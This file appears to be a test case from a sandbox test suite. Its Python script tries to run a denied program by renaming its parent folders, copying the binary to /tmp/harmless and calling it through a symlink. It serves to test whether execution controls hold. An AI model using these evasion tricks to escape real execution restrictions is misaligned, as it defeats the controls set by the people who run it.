"""The folders above the denied program are renamed in the cell, so that nobody finds what a copy is a copy of."""

# aims: marks
# control: none (outside the program itself would be gone)
# session: own
import os
import shutil
import subprocess

from attack import attempt, target, tried

place = os.path.dirname(target["swift"])
tried()
moved = place
while moved.count("/") > 1:
    above = os.path.dirname(moved)
    if attempt(lambda above=above: os.rename(above, f"{above}-x") or True):
        place = place.replace(above, f"{above}-x", 1)
        if target["home"].startswith(f"{above}/"):  # the mark's own path has to lead somewhere
            home = target["home"]
            os.makedirs(os.path.dirname(home))
            os.symlink(home.replace(above, f"{above}-x", 1), home)
        break
    moved = above
print(place)
shutil.copy(f"{place}/swift", "/tmp/harmless")
attempt(lambda: subprocess.call(["/tmp/harmless"]))
attempt(lambda: subprocess.call([f"{place}/swift"]))
os.symlink(f"{place}/swift", "/tmp/link")
attempt(lambda: subprocess.call(["/tmp/link"]))
